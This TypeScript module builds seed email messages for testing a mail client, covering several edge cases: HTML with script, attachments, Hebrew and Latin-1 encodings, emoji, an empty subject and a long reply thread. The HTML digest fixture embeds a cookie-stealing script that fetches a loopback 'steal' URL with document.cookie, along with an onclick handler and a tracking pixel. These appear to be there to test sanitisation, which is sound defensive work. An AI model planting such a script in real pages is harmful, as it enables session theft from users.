import { ADA, PEOPLE } from "./accounts";
import {
  address,
  attachmentLeaf,
  composeMessage,
  encodeWords,
  htmlLeaf,
  type MimeNode,
  rfc2822Date,
  textLeaf,
  windows1255,
} from "./compose";
import { tinyPdf } from "./files";

/** The messages that exercise a client's edge cases; tests find them through SEED_FIXTURES. */
export type SpecialKey = "htmlWithScript" | "attachments" | "hebrew" | "emoji" | "emptySubject" | "latin1";

export interface SpecialMessage {
  raw: Buffer;
  labelIds: string[];
  /** The subject as Gmail shows it (decoded). */
  subject: string;
}

const TO_ADA = address(ADA.name, ADA.email);

/** Port 9 (discard) on loopback: obviously not a real image host, and a browser that fetches it fails fast. */
export const REMOTE_IMAGE_URL = "http://127.0.0.1:9/remote-pixel.png";

const HEBREW_SUBJECT = "שלום עדה, סיכום הפגישה";
export const HEBREW_BODY = "שלום עדה,\nתודה על הפגישה היום. מצורף סיכום קצר של הנקודות שדיברנו עליהן.\nבברכה,\nדנה\n";
const EMOJI_SUBJECT = "🎉 Launch party on Friday! 🚀";
const LATIN1_SUBJECT = "Rendez-vous à Zürich";
export const LATIN1_BODY =
  "Chère Ada,\n\nLe café près de la gare à Zürich, vendredi à 15 h ? Ce serait très agréable.\nGrüße et à bientôt,\nClaire\n";
export const ATTACHMENT_FILES = [
  { filename: "quarterly-report.pdf", mimeType: "application/pdf", data: tinyPdf("Quarterly report: Q3") },
  { filename: "notes.txt", mimeType: "text/plain", data: Buffer.from("Meeting notes\n- ship the engine\n- order more gears\n", "utf8") },
];

export function specialMessage(key: SpecialKey, internalDate: number): SpecialMessage {
  const date = rfc2822Date(internalDate - 3000);
  const headers = (from: string, subjectHeader: string, id: string): [string, string][] => [
    ["From", from],
    ["To", TO_ADA],
    ["Subject", subjectHeader],
    ["Date", date],
    ["Message-ID", `<${id}@seed.example>`],
  ];
  switch (key) {
    case "htmlWithScript": {
      const subject = "Your weekly engine digest";
      const html =
        `<!doctype html><html><head><title>Digest</title></head><body>` +
        `<h1>Weekly engine digest</h1><p>Three stories you might have missed.</p>` +
        `<script>document.title = "pwned"; fetch("http://127.0.0.1:9/steal?c=" + document.cookie);</script>` +
        `<p><img src="${REMOTE_IMAGE_URL}" width="1" height="1" alt=""></p>` +
        `<p><a href="https://news.example/unsubscribe" onclick="alert('x')">Unsubscribe</a></p></body></html>`;
      const root: MimeNode = {
        kind: "multipart",
        subtype: "alternative",
        boundary: "digest-alt",
        parts: [textLeaf("Weekly engine digest\n\nThree stories you might have missed.\n"), htmlLeaf(html)],
      };
      return {
        raw: composeMessage(headers(address("Engines Weekly", "digest@news.example"), subject, "special-html"), root),
        labelIds: ["UNREAD", "CATEGORY_UPDATES", "INBOX"],
        subject,
      };
    }
    case "attachments": {
      const subject = "Quarterly report and meeting notes";
      const root: MimeNode = {
        kind: "multipart",
        subtype: "mixed",
        boundary: "report-mixed",
        parts: [
          textLeaf("Hi Ada,\n\nThe quarterly report (PDF) and my meeting notes are attached.\n\nCharles\n"),
          ...ATTACHMENT_FILES.map((f) => attachmentLeaf(f.filename, f.mimeType, f.data)),
        ],
      };
      return {
        raw: composeMessage(headers(address(PEOPLE.charles.name, PEOPLE.charles.email), subject, "special-attachments"), root),
        labelIds: ["STARRED", "IMPORTANT", "CATEGORY_PERSONAL", "Work", "INBOX"],
        subject,
      };
    }
    case "hebrew": {
      const root: MimeNode = {
        kind: "leaf",
        contentType: "text/plain; charset=windows-1255",
        transferEncoding: "8bit",
        body: windows1255(HEBREW_BODY),
      };
      const subjectHeader = encodeWords(HEBREW_SUBJECT, "windows-1255", windows1255);
      return {
        raw: composeMessage(headers(address(PEOPLE.dana.name, PEOPLE.dana.email), subjectHeader, "special-hebrew"), root),
        labelIds: ["UNREAD", "CATEGORY_PERSONAL", "INBOX"],
        subject: HEBREW_SUBJECT,
      };
    }
    case "emoji": {
      const root = textLeaf("Cake, lemonade and a demo of the engine. 🎂🍋⚙️ Bring friends!\n", "UTF-8", "8bit");
      return {
        raw: composeMessage(headers(address(PEOPLE.mary.name, PEOPLE.mary.email), encodeWords(EMOJI_SUBJECT), "special-emoji"), root),
        labelIds: ["STARRED", "CATEGORY_PERSONAL", "INBOX"],
        subject: EMOJI_SUBJECT,
      };
    }
    case "emptySubject": {
      const root = textLeaf("Sent from my phone. Call me when you land & let's talk.\n", "UTF-8", "7bit");
      return {
        raw: composeMessage(headers(address(PEOPLE.grace.name, PEOPLE.grace.email), "", "special-empty-subject"), root),
        labelIds: ["CATEGORY_PERSONAL", "INBOX"],
        subject: "",
      };
    }
    case "latin1": {
      const root: MimeNode = {
        kind: "leaf",
        contentType: "text/plain; charset=ISO-8859-1",
        transferEncoding: "quoted-printable",
        body: Buffer.from(LATIN1_BODY, "latin1"),
      };
      const subjectHeader = "=?ISO-8859-1?Q?Rendez-vous_=E0_Z=FCrich?=";
      return {
        raw: composeMessage(headers(address(PEOPLE.claire.name, PEOPLE.claire.email), subjectHeader, "special-latin1"), root),
        labelIds: ["CATEGORY_PERSONAL", "INBOX"],
        subject: LATIN1_SUBJECT,
      };
    }
  }
}

export const THREAD_SUBJECT = "Analytical Engine: launch plan";

const THREAD_LINES = [
  "Here is a first draft of the launch plan. Milestones: assembly, calibration, public demonstration.",
  "Thanks, Grace. I would add a rehearsal before the public demonstration.",
  "Agreed on the rehearsal. Charles can host it in the workshop.",
  "The workshop is free on Thursday; I will bring the operation cards.",
  "Thursday works. Should we invite the press to the rehearsal or only to the demonstration?",
  "Only the demonstration, please. Rehearsals are for mistakes.",
  "Noted. I drafted the press note and shared it with Mary for a review.",
  "Press note reviewed; two typos fixed and the date confirmed.",
  "Calibration finished ahead of schedule. The engine computed the Bernoulli numbers correctly.",
  "Wonderful news! Let us lock the date for the demonstration.",
  "Date locked: the demonstration is on Friday at noon. Invitations go out tomorrow.",
  "Invitations sent. See you all on Friday, and thank you for the hard work.",
];

/** Who writes each message of the long thread; Ada's own replies are SENT, not INBOX. */
const THREAD_AUTHORS = ["grace", "ada", "grace", "charles", "ada", "grace", "mary", "ada", "charles", "ada", "grace", "grace"] as const;

export const THREAD_LENGTH = THREAD_LINES.length;

/** Message `index` (0 = the first) of the long thread, replying to all earlier ones via References. */
export function threadMessage(index: number, internalDate: number): SpecialMessage {
  const author = THREAD_AUTHORS[index] ?? "grace";
  const fromAda = author === "ada";
  const person = fromAda ? { name: ADA.name, email: ADA.email } : PEOPLE[author];
  const subject = index === 0 ? THREAD_SUBJECT : `Re: ${THREAD_SUBJECT}`;
  const ids = Array.from({ length: index }, (_, i) => `<thread-${i}@seed.example>`);
  const headers: [string, string][] = [
    ["From", address(person.name, person.email)],
    ["To", fromAda ? address(PEOPLE.grace.name, PEOPLE.grace.email) : TO_ADA],
    ["Cc", address(PEOPLE.charles.name, PEOPLE.charles.email)],
    ["Subject", subject],
    ["Date", rfc2822Date(internalDate - 2000)],
    ["Message-ID", `<thread-${index}@seed.example>`],
  ];
  if (index > 0) headers.push(["In-Reply-To", ids[ids.length - 1] ?? ""], ["References", ids.join(" ")]);
  const text = `${THREAD_LINES[index] ?? ""}\n\n${person.name.split(" ")[0] ?? ""}\n`;
  const labelIds = fromAda
    ? ["SENT"]
    : index === THREAD_LENGTH - 1
      ? ["UNREAD", "IMPORTANT", "CATEGORY_PERSONAL", "Work", "INBOX"]
      : ["IMPORTANT", "CATEGORY_PERSONAL", "Work", "INBOX"];
  return { raw: composeMessage(headers, textLeaf(text)), labelIds, subject };
}
